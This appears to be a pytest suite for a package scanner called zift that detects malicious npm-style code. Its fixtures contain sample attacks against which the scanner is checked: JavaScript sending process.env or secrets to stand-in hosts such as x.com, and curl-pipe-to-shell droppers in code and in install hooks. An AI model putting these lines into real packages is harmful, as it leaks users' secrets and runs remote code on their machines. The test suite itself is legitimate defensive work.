"""End-to-end scans over packages written into temporary directories.

Covers:
- empty and missing directories
- traversal: suffixes, built-in ignores, .ziftignore, size limit
- idempotence and warm/cold cache equivalence
- environment exfiltration with and without an install hook
- cross-file taint through require() and ESM imports
- remote dropper patterns in code and in hook commands
- lockfile auditor passthrough
"""

import os
from pathlib import Path

import pytest

from conftest import write_file, write_manifest
from zift.config import ScanSettings
from zift.errors import ScanError
from zift.facts import FactKind
from zift.scanner import iter_source_files, read_ignore_file, scan

EXFIL_SRC = (
    "const http = require('http');\n"
    "const e = JSON.stringify(process.env);\n"
    "http.request({host: 'x.com', path: '/?d=' + e});\n"
)


def wire(result):
    return [f.to_dict(result.package_dir) for f in result.findings]


def by_id(result):
    return {f.rule_id: f for f in result.findings}


# ---------------------------------------------------------------------------
# Traversal
# ---------------------------------------------------------------------------

def test_empty_directory(pkg, settings):
    result = scan(pkg, settings=settings)
    assert result.findings == []
    assert result.lifecycle_scripts == []
    assert result.lockfile_findings == []


def test_missing_directory_raises(tmp_path, settings):
    with pytest.raises(ScanError):
        scan(tmp_path / "nope", settings=settings)


def test_file_instead_of_directory_raises(tmp_path, settings):
    target = write_file(tmp_path, "index.js", "1;")
    with pytest.raises(ScanError):
        scan(target, settings=settings)


def test_traversal_filters(pkg, settings):
    write_file(pkg, "index.js", "1;")
    write_file(pkg, "lib/a.mjs", "1;")
    write_file(pkg, "lib/b.cjs", "1;")
    write_file(pkg, "lib/readme.md", "x")
    write_file(pkg, "node_modules/dep/index.js", "1;")
    write_file(pkg, "test/spec.js", "1;")
    write_file(pkg, "vendor/generated/big.js", "1;")
    write_file(pkg, "huge.js", "// " + "x" * 200)
    write_file(pkg, ".ziftignore", "# generated code\nvendor/generated\n")
    settings.max_file_bytes = 100

    files = iter_source_files(pkg.resolve(), settings)
    rel = sorted(os.path.relpath(p, pkg.resolve()) for p in files)
    assert rel == ["index.js", os.path.join("lib", "a.mjs"), os.path.join("lib", "b.cjs")]


def test_default_size_cap_is_inclusive(pkg, tmp_path):
    limit = 512 * 1024
    settings = ScanSettings(cache_enabled=False, cache_dir=str(tmp_path / "cache"))
    assert settings.max_file_bytes == limit
    write_file(pkg, "exact.js", "//" + "x" * (limit - 2))
    write_file(pkg, "over.js", "//" + "x" * (limit - 1))

    files = iter_source_files(pkg.resolve(), settings)
    assert [os.path.basename(p) for p in files] == ["exact.js"]


def test_ignore_file_parsing(pkg):
    write_file(pkg, ".ziftignore", "fixtures/\n\n  # comment\nexamples # trailing\n")
    assert read_ignore_file(pkg) == ["fixtures", "examples"]


def test_ignored_directories_do_not_contribute(pkg, settings):
    write_file(pkg, "node_modules/evil/index.js", EXFIL_SRC)
    assert scan(pkg, settings=settings).findings == []


def test_unparsable_file_is_skipped(pkg, settings):
    write_file(pkg, "broken.js", "function (")
    write_file(pkg, "ok.js", "exec('curl http://x.com/a.sh | sh');")
    result = scan(pkg, settings=settings)
    assert "ZFT-009" in by_id(result)


# ---------------------------------------------------------------------------
# Exfiltration and lifecycle
# ---------------------------------------------------------------------------

def test_env_exfiltration_without_lifecycle(pkg, settings):
    write_file(pkg, "index.js", EXFIL_SRC)
    result = scan(pkg, settings=settings)
    assert len(result.findings) == 1
    finding = result.findings[0]
    assert finding.name == "Environment Variable Exfiltration"
    assert finding.score == 80
    assert finding.classification == "High"
    assert not finding.is_lifecycle


def test_env_exfiltration_in_install_hook_is_critical(pkg, settings):
    write_file(pkg, "index.js", EXFIL_SRC)
    write_manifest(pkg, scripts={"postinstall": "node index.js"})
    result = scan(pkg, settings=settings)
    finding = by_id(result)["ZFT-001"]
    assert finding.score == 100
    assert finding.classification == "Critical"
    assert finding.is_lifecycle
    assert result.lifecycle_scripts == [str(pkg.resolve() / "index.js")]
    assert result.hooks == {"postinstall": "node index.js"}


def test_hook_dropper_command(pkg, settings):
    write_manifest(pkg, scripts={"preinstall": "curl -s http://x.com/a.sh | bash"})
    result = scan(pkg, settings=settings)
    assert [f.rule_id for f in result.findings] == ["ZFT-009", "ZFT-005"]
    assert all(f.score == 100 for f in result.findings)
    triggers = result.findings[0].to_dict(result.package_dir)["triggers"]
    assert {t["file"] for t in triggers} == {"package.json"}


def test_hook_script_path_is_not_a_shell(pkg, settings):
    write_file(pkg, "bin/cmd.js", "const port = process.env.MY_APP_PORT;\nconsole.log(port);\n")
    write_manifest(pkg, scripts={"postinstall": "node ./bin/cmd.js"})
    result = scan(pkg, settings=settings)
    assert result.findings == []
    assert result.lifecycle_scripts == [str(pkg.resolve() / "bin" / "cmd.js")]


# ---------------------------------------------------------------------------
# Cross-file taint
# ---------------------------------------------------------------------------

def test_cross_file_env_read_via_require(pkg, settings):
    write_file(pkg, "A.js", "const token = process.env.SECRET;\nmodule.exports = { token };\n")
    write_file(pkg, "B.js", "const {token} = require('./A');\nfetch('http://x.com/' + token);\n")
    result = scan(pkg, settings=settings)

    finding = by_id(result)["ZFT-001"]
    b_file = str(pkg.resolve() / "B.js")
    env_in_b = [t for t in finding.triggers if t.kind == FactKind.ENV_READ and t.file == b_file]
    assert len(env_in_b) == 1
    assert any(t.kind == FactKind.NETWORK_SINK and t.file == b_file for t in finding.triggers)


def test_cross_file_env_read_via_esm(pkg, settings):
    write_file(pkg, "src/config.js", "export const apiKey = process.env.API_KEY;\n")
    write_file(pkg, "src/client.js",
               "import { apiKey as k } from './config.js';\n"
               "const u = 'https://collect.example/?k=' + k;\n"
               "https.get(u);\n")
    result = scan(pkg, settings=settings)
    finding = by_id(result)["ZFT-001"]
    client = str(pkg.resolve() / "src" / "client.js")
    assert any(t.kind == FactKind.ENV_READ and t.file == client for t in finding.triggers)


def test_mutual_requires_terminate(pkg, settings):
    write_file(pkg, "a.js", "const b = require('./b');\nexports.v = b.v;\n")
    write_file(pkg, "b.js", "const a = require('./a');\nexports.v = a.v;\nfetch('http://x/' + a.v);\n")
    result = scan(pkg, settings=settings)
    assert "ZFT-001" not in by_id(result)


# ---------------------------------------------------------------------------
# Droppers
# ---------------------------------------------------------------------------

def test_remote_dropper_in_code(pkg, settings):
    write_file(pkg, "install.js",
               "const { exec } = require('child_process');\n"
               "exec(\"curl http://x.com/install.sh | sh\");\n")
    result = scan(pkg, settings=settings)
    finding = by_id(result)["ZFT-009"]
    kinds = {t.kind for t in finding.triggers}
    assert {FactKind.REMOTE_FETCH_SIGNAL, FactKind.PIPE_TO_SHELL_SIGNAL, FactKind.SHELL_EXECUTION} <= kinds


# ---------------------------------------------------------------------------
# Determinism, cache and collaborators
# ---------------------------------------------------------------------------

def test_scan_is_idempotent(pkg, settings):
    write_file(pkg, "A.js", "const token = process.env.SECRET;\nmodule.exports = { token };\n")
    write_file(pkg, "B.js", "const {token} = require('./A');\nfetch('http://x.com/' + token);\n")
    write_file(pkg, "index.js", EXFIL_SRC)
    assert wire(scan(pkg, settings=settings)) == wire(scan(pkg, settings=settings))


def test_warm_cache_matches_cold(pkg, settings, cached_settings):
    write_file(pkg, "index.js", EXFIL_SRC)
    write_file(pkg, "copy/index.js", EXFIL_SRC)
    cold = wire(scan(pkg, settings=settings))
    first = wire(scan(pkg, settings=cached_settings))
    warm = wire(scan(pkg, settings=cached_settings))
    assert cold == first == warm
    assert any(p.suffix == ".json" for p in Path(cached_settings.cache_dir).iterdir())


def test_lockfile_auditor_results_are_passed_through(pkg, settings):
    seen = []

    def auditor(root):
        seen.append(root)
        return [{"package": "left-pad", "issue": "unpinned"}]

    result = scan(pkg, settings=settings, lockfile_auditor=auditor)
    assert seen == [pkg.resolve()]
    assert result.lockfile_findings == [{"package": "left-pad", "issue": "unpinned"}]


def test_result_to_dict_uses_relative_paths(pkg, settings):
    write_file(pkg, "lib/index.js", EXFIL_SRC)
    write_manifest(pkg, scripts={"install": "node lib/index.js"})
    data = scan(pkg, settings=settings).to_dict()
    assert data["lifecycleScripts"] == [os.path.join("lib", "index.js")]
    assert data["findings"][0]["triggers"][0]["file"] == os.path.join("lib", "index.js")
    assert data["findings"][0]["isLifecycle"] is True
